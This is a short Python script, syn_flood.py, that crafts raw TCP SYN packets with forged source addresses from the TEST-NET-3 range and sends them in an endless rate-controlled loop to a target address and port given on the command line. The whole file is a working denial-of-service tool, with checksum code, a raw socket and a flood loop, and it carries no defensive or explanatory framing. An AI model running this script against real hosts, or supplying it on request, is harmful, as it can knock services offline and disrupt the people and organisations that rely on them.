#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Sends SYNs with sources that do not exist. Usage: syn_flood.py ADDRESS PORT RATE"""
import random
import socket
import struct
import sys
import time


def ones_sum(data):
    words = struct.unpack(f"!{len(data) // 2}H", data)
    total = sum(words)
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, destination, port, number):
    """An IPv4 packet; the kernel fills in the IP checksum."""
    ends = source + socket.inet_aton(destination)
    options = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", 1024 + number % 60000, port, random.getrandbits(32), 0, 0x60, 2, 65535, 0, 0) + options
    total = ones_sum(ends + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + ends + tcp


def main():
    address, port, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    started, sent = time.monotonic(), 0
    while True:
        while sent < (time.monotonic() - started) * rate:
            source = bytes((203, 0, 113, random.randrange(1, 255)))  # TEST-NET-3 (RFC 5737)
            try:
                out.sendto(syn(source, address, port, sent), (address, 0))
            except OSError:
                pass
            sent += 1
        time.sleep(0.002)


if __name__ == "__main__":
    main()
